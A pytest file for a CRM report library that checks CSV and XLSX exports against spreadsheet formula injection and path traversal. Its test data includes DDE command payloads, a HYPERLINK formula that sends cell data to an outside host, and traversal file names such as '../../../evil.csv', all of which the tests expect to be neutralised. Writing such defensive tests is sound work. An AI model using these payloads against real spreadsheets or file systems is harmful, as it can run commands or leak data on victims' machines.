"""Lists beside a report: harmless in a spreadsheet, the same bytes every time.

Oracle: what csv and openpyxl read back, cell by cell, from the bytes written.
"""

import csv
import io
import json
import re

import nbformat
import openpyxl
import pandas as pd
import pytest

from crmlib.errors import InputError
from crmlib.report.attachments import file_bytes
from crmlib.report.execution import Execution

HOSTILE = [
    *("=1+1", "+49 30 1234", "-cmd", "@SUM(A1)", "\t=1", " =1", "|x", "%x", "\r=1", "\n=1"),
    *("=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0"),
    *("＝1+1", "＋1", "－1", "＠SUM(A1)", "\u3000＝1", "\u00a0=1", "\u200b=1", "\ufeff=1"),
    *("\u202e=1", "\x00=1", "\x1b=1", "\t", "\rx", "\nx", "\tx", "%0A=1"),
]
# Harmless in one cell, and a formula where a spreadsheet cuts the cell in two.
CUT_IN_TWO = ["a;=1+1", "a;\t=1;b", 'a";=1+1;"', "a\n=1+1", "a\r\n@x", "a\t=1", "a;＝1", "x; -1"]
FORMULA = re.compile(r"[\s\u200b-\u202e\ufeff\x00-\x1f]*[=+\-@＝＋－＠]")


def rows_of(content: bytes, name: str) -> list[list]:
    if name.endswith(".csv"):
        text = content.decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text, newline="")))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("name", ["list.csv", "list.xlsx"])
def test_no_text_begins_like_a_formula(name):
    df = pd.DataFrame({"=name": HOSTILE, "money": [-1.5] * len(HOSTILE)})
    header, *rows = rows_of(file_bytes(df, name), name)
    assert header == ["'=name", "money"]
    for row in rows:
        assert row[0] is not None
        assert row[0].startswith("'")
        assert float(row[1]) == -1.5


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_is_a_formula_wherever_a_spreadsheet_cuts(separator):
    texts = [*HOSTILE, *CUT_IN_TWO]
    df = pd.DataFrame({f"n{separator}=1": range(len(texts)), "text": texts, "last": texts})
    text = file_bytes(df, "list.csv").decode("utf-8-sig")
    # As Excel does it: a quotation mark counts only at the beginning of a cell.
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        assert not [cell for cell in row if FORMULA.match(cell)]


@pytest.mark.parametrize("name", ["list.csv", "list.xlsx"])
def test_signs_that_no_file_may_hold_break_nothing(name):
    df = pd.DataFrame({"a\x00b": pd.Series(["\x1b[31mred", "a\x0bb"], dtype=object)})
    header, *rows = rows_of(file_bytes(df, name), name)
    assert len(rows) == 2
    if name.endswith(".xlsx"):
        assert [header, *rows] == [["a\ufffdb"], ["\ufffd[31mred"], ["a\ufffdb"]]


@pytest.mark.parametrize("name", ["list.csv", "list.xlsx"])
def test_everything_else_stays_as_it_is(name):
    df = pd.DataFrame({"名": ["木兰 & Co", 'a,b\n"c"'], "n": [1, 2]})
    header, *rows = rows_of(file_bytes(df, name), name)
    assert header == ["名", "n"]
    assert [row[0] for row in rows] == df["名"].tolist()


@pytest.mark.parametrize("name", ["list.csv", "list.xlsx"])
def test_the_same_rows_give_the_same_bytes(name, monkeypatch):
    df = pd.DataFrame({"a": [1]})
    first = file_bytes(df, name)
    monkeypatch.setattr("time.time", lambda: 2e9)
    assert file_bytes(df, name) == first


@pytest.mark.parametrize(
    "name",
    [
        *("../x.csv", "run.json", "A.csv", "x.csv.exe", "", "a b.csv", "/x.csv", "a/b.csv"),
        *("x.csv\n", "\nx.csv", "x.csv\0", ".csv", "..csv", "c:x.csv", "a\\b.csv", "é.csv"),
    ],
)
def test_a_name_that_is_not_a_plain_list_is_refused(name):
    with pytest.raises(InputError, match="file name"):
        file_bytes(pd.DataFrame({"a": [1]}), name)


def test_attachments_are_taken_from_the_notebook():
    block = {"kind": "attachment", "name": "a.csv", "rows": 1, "content": "YQ=="}
    output = nbformat.v4.new_output(
        "display_data", {"application/vnd.crmlib.block+json": json.dumps(block)}
    )
    cell = nbformat.v4.new_code_cell("x", outputs=[output])
    execution = Execution(nbformat.v4.new_notebook(cells=[cell]), failure=None)
    assert execution.attachments == {"a.csv": b"a"}


MAKE_A_LIST = """\
import pandas as pd
from crmlib.report.blocks import attachment
attachment(pd.DataFrame({"name": ["=HYPERLINK(1)", "木兰"]}), "contacts.csv")
"""
SMUGGLE = """\
from IPython.display import display
block = {"kind": "attachment", "name": "../../../evil.csv", "rows": 1, "content": "YQ=="}
display({"text/plain": "", "application/vnd.crmlib.block+json": block}, raw=True)
"""


def test_a_list_lies_beside_its_report_and_nowhere_else(workbook):
    workbook.add("clp/lists", MAKE_A_LIST, SMUGGLE)
    assert workbook.run().exit_code == 0
    folder = workbook.reports / "clp/lists"
    assert rows_of((folder / "contacts.csv").read_bytes(), "contacts.csv") == [
        ["name"],
        ["'=HYPERLINK(1)"],
        ["木兰"],
    ]
    record = workbook.record("clp/lists")
    assert record["attachments"] == {"contacts.csv": workbook.files("clp/lists")["contacts.csv"]}
    assert not list(workbook.folder.rglob("evil.csv"))
